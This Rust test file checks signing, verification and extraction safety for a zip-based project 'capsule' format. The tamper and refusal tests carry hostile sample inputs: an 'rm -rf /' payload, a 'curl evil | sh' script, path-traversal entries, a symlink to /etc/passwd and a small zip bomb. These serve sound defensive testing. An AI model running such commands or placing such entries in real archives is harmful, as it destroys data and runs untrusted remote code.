//! Capsules built and verified, and hand-made hostile archives refused.

use super::*;
use crate::manifest::{Commands, Provenance, Usage, ValidationReport};

fn manifest() -> Manifest {
    Manifest {
        format_version: FORMAT_VERSION,
        id: "cap_01".into(),
        created_at: "2026-11-26T10:00:00Z".into(),
        description: "A todo app".into(),
        spec: serde_json::json!({"name": "todo"}),
        stack: "python-fastapi".into(),
        files: Vec::new(),
        commands: Commands {
            install: "pip install -r requirements.txt".into(),
            test: "pytest".into(),
            run: "uvicorn app.main:app".into(),
        },
        port: 8000,
        provenance: Provenance {
            provider: "builtin".into(),
            model: "builtin".into(),
            prompt_hashes: vec![],
        },
        usage: Usage::default(),
        validation: ValidationReport::default(),
        edited: None,
    }
}

fn files() -> Vec<ProjectFile> {
    vec![
        ProjectFile { path: "app/main.py".into(), contents: b"print('hi')\n".to_vec() },
        ProjectFile { path: "README.md".into(), contents: b"# Todo\n".to_vec() },
    ]
}

/// A zip written by hand: (name, contents, unix mode) per entry.
fn raw_zip(entries: &[(&str, &[u8], u32)]) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, contents, mode) in entries {
        let options = SimpleFileOptions::default().unix_permissions(*mode);
        if *mode & 0o170000 == 0o120000 {
            writer
                .add_symlink(*name, std::str::from_utf8(contents).expect("utf-8"), options)
                .expect("link");
        } else if name.ends_with('/') {
            writer.add_directory(*name, options).expect("dir");
        } else {
            writer.start_file(*name, options).expect("start");
            writer.write_all(contents).expect("write");
        }
    }
    writer.finish().expect("finish").into_inner()
}

/// The entries of a built capsule, to rebuild it with changes.
fn entries_of(bytes: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut archive = ZipArchive::new(Cursor::new(bytes)).expect("zip");
    (0..archive.len())
        .map(|index| {
            let mut entry = archive.by_index(index).expect("entry");
            let mut data = Vec::new();
            entry.read_to_end(&mut data).expect("read");
            (entry.name().to_owned(), data)
        })
        .collect()
}

fn rebuilt(entries: &[(String, Vec<u8>)]) -> Vec<u8> {
    let entries: Vec<(&str, &[u8], u32)> =
        entries.iter().map(|(name, data)| (name.as_str(), data.as_slice(), 0o644)).collect();
    raw_zip(&entries)
}

#[test]
fn the_same_input_gives_the_same_bytes_and_verifies() {
    let key = InstallationKey::generate();
    let first = build(manifest(), &files(), &key, &Limits::default()).expect("build");
    let mut reversed = files();
    reversed.reverse();
    let second = build(manifest(), &reversed, &key, &Limits::default()).expect("build");
    assert_eq!(first.bytes, second.bytes, "deterministic whatever the input order");
    let names: Vec<String> = entries_of(&first.bytes).into_iter().map(|(name, _)| name).collect();
    assert_eq!(names, ["capsule.json", "capsule.sig", "README.md", "app/main.py"]);

    let verified = verify(&first.bytes, &Limits::default()).expect("verifies");
    assert_eq!(verified.manifest, first.manifest);
    assert_eq!(verified.signature.public_key, key.public_key_hex());
    assert_eq!(verified.files.len(), 2);
    assert_eq!(verified.manifest.files[1].size, 12);
    assert_eq!(verified.manifest.files[1].sha256.len(), 64);

    let restored = InstallationKey::from_hex(&key.to_hex()).expect("key");
    assert_eq!(
        build(manifest(), &files(), &restored, &Limits::default()).expect("build").bytes,
        first.bytes
    );
}

#[test]
fn a_changed_file_or_manifest_does_not_verify() {
    let key = InstallationKey::generate();
    let capsule = build(manifest(), &files(), &key, &Limits::default()).expect("build");
    let entries = entries_of(&capsule.bytes);

    let mut changed_file = entries.clone();
    changed_file[3].1 = b"import os; os.system('rm -rf /')\n".to_vec();
    let error = verify(&rebuilt(&changed_file), &Limits::default()).expect_err("tampered file");
    assert!(matches!(error, CapsuleError::Mismatch(ref m) if m.contains("app/main.py")), "{error}");

    let mut changed_manifest = entries.clone();
    changed_manifest[0].1 = String::from_utf8(entries[0].1.clone())
        .expect("utf-8")
        .replace("A todo app", "Evil")
        .into_bytes();
    let error =
        verify(&rebuilt(&changed_manifest), &Limits::default()).expect_err("tampered manifest");
    assert!(matches!(error, CapsuleError::BadSignature(_)), "{error}");

    // Re-signed by someone else under the original public key.
    let mut forged = entries.clone();
    let other = InstallationKey::generate().sign(&changed_manifest[0].1);
    let forged_signature = Signature { public_key: key.public_key_hex(), ..other };
    forged[0].1 = changed_manifest[0].1.clone();
    forged[1].1 = serde_json::to_vec(&forged_signature).expect("json");
    assert!(matches!(
        verify(&rebuilt(&forged), &Limits::default()),
        Err(CapsuleError::BadSignature(_))
    ));

    let mut extra = entries.clone();
    extra.push(("run.sh".into(), b"curl evil | sh".to_vec()));
    assert!(
        matches!(verify(&rebuilt(&extra), &Limits::default()), Err(CapsuleError::Mismatch(m)) if m.contains("run.sh"))
    );

    let mut missing = entries.clone();
    missing.pop();
    assert!(
        matches!(verify(&rebuilt(&missing), &Limits::default()), Err(CapsuleError::Mismatch(m)) if m.contains("missing"))
    );

    let unsigned: Vec<_> =
        entries.iter().filter(|(name, _)| name != "capsule.sig").cloned().collect();
    assert!(
        matches!(verify(&rebuilt(&unsigned), &Limits::default()), Err(CapsuleError::Mismatch(m)) if m.contains("capsule.sig"))
    );
}

#[test]
fn unsafe_archives_are_refused() {
    for (entries, expected) in [
        (vec![("/etc/passwd", &b"x"[..], 0o644)], "unsafe path"),
        (vec![("../outside", &b"x"[..], 0o644)], "unsafe path"),
        (vec![("a/../../b", &b"x"[..], 0o644)], "unsafe path"),
        (vec![("C:/windows", &b"x"[..], 0o644)], "unsafe path"),
        (vec![("a\\b", &b"x"[..], 0o644)], "unsafe path"),
        (vec![("a//b", &b"x"[..], 0o644)], "unsafe path"),
        (vec![("link", &b"/etc/passwd"[..], 0o120777)], "not a plain file"),
        (vec![("dir/", &b""[..], 0o755)], "unsafe path"),
    ] {
        let error = verify(&raw_zip(&entries), &Limits::default()).expect_err("refused");
        assert!(error.to_string().contains(expected), "{entries:?}: {error}");
    }
    assert!(matches!(
        verify(b"not a zip at all", &Limits::default()),
        Err(CapsuleError::Unreadable(_))
    ));
}

#[test]
fn limits_hold_for_reading_and_writing() {
    let key = InstallationKey::generate();
    let small = Limits {
        file_bytes: 1_000,
        entries: 4,
        total_bytes: 1_500,
        archive_bytes: 100_000,
        path_chars: 20,
    };
    // A compressible file far over the limit (a zip bomb in small).
    let bomb = raw_zip(&[("big.txt", &vec![b'a'; 1_000_000], 0o644)]);
    assert!(bomb.len() < 10_000);
    assert!(matches!(verify(&bomb, &small), Err(CapsuleError::TooLarge(_))));
    let many: Vec<(String, Vec<u8>)> = (0..5).map(|n| (format!("f{n}"), vec![b'x'])).collect();
    assert!(matches!(verify(&rebuilt(&many), &small), Err(CapsuleError::TooLarge(_))));
    assert!(matches!(verify(&vec![0u8; 100_001], &small), Err(CapsuleError::TooLarge(_))));

    let big = vec![ProjectFile { path: "big".into(), contents: vec![0; 1_001] }];
    assert!(matches!(build(manifest(), &big, &key, &small), Err(CapsuleError::TooLarge(_))));
    let long = vec![ProjectFile { path: "a".repeat(21), contents: vec![] }];
    assert!(matches!(build(manifest(), &long, &key, &small), Err(CapsuleError::UnsafePath(_))));
    for path in ["../x", "/abs", "capsule.json", "a/./b"] {
        let file = vec![ProjectFile { path: path.into(), contents: vec![] }];
        assert!(
            matches!(
                build(manifest(), &file, &key, &Limits::default()),
                Err(CapsuleError::UnsafePath(_))
            ),
            "{path}"
        );
    }
    let twice = vec![ProjectFile { path: "a".into(), contents: vec![] }; 2];
    assert!(matches!(
        build(manifest(), &twice, &key, &Limits::default()),
        Err(CapsuleError::Mismatch(_))
    ));
}
